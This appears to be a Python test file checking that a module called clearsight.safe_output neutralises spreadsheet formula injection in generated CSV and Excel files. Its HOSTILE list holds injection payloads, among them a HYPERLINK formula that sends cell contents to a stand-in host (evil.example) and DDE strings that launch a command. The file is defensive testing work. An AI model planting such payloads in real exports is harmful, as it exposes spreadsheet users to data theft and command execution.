"""No CSV or workbook Clearsight writes can carry a live formula, whatever the submitted data holds."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from clearsight.safe_output import FORMULA_TRIGGERS, neutralise, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-1+2",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n@A1",
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["", "Greater Manchester Police", "O'Brien", "a=b", "1-2", "M1 1AA", "'already quoted"]


def test_hostile_text_gets_a_leading_quote() -> None:
    for value in HOSTILE:
        assert neutralise(value) == "'" + value


def test_harmless_text_and_real_numbers_are_left_alone() -> None:
    for value in HARMLESS:
        assert neutralise(value) == value
    for value in (-1, -2.5, 0, 3, True, None, date(2024, 1, 1)):
        assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_other_objects_are_checked_as_their_text() -> None:
    class Weird:
        def __str__(self) -> str:
            return "=1+1"

    assert neutralise(Weird()) == "'=1+1"


@given(st.text())
def test_any_text_is_either_unchanged_and_safe_or_quoted(value: str) -> None:
    result = neutralise(value)
    if result == value:
        assert not value.startswith(FORMULA_TRIGGERS)
        assert not value.lstrip(" \n\u00a0\u3000").startswith(FORMULA_TRIGGERS)
    else:
        assert result == "'" + value


def test_csv_cells_and_header_are_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "out" / "report.csv"
    rows = [{"value": text, "count": -1} for text in HOSTILE] + [{"value": "fine"}]
    assert write_csv(path, rows, ["value", "count", "=header"]) == len(HOSTILE) + 1
    with path.open(encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["value", "count", "'=header"]
    assert len(read) == len(HOSTILE) + 2  # a cell holding "\r" or "\n" is quoted, not split across rows
    for line, text in zip(read[1:], HOSTILE, strict=False):
        assert line == ["'" + text, "-1", ""]
    assert read[-1] == ["fine", "", ""]


def test_csv_accepts_sequences_in_column_order(tmp_path: Path) -> None:
    path = tmp_path / "seq.csv"
    write_csv(path, [("=1", 2), ("x", None)], ["a", "b"])
    assert path.read_bytes() == b"a,b\r\n'=1,2\r\nx,\r\n"


def test_workbook_holds_no_formula_and_keeps_numbers_numeric(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    rows = [{"value": text, "count": -1} for text in HOSTILE]
    counts = write_xlsx(path, {"Quarantine: [all]": (["value", "count"], rows), "second": (["a"], [["=2"]])})
    assert counts == {"Quarantine: [all]": len(HOSTILE), "second": 1}
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Quarantine_ _all_", "second"]
    sheet = workbook["Quarantine_ _all_"]
    for cells in sheet.iter_rows(min_row=2):
        assert cells[0].data_type == "s" and cells[0].value.startswith("'")
        assert cells[1].value == -1 and cells[1].data_type == "n"
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in cells)
    assert workbook["second"]["A2"].value == "'=2"
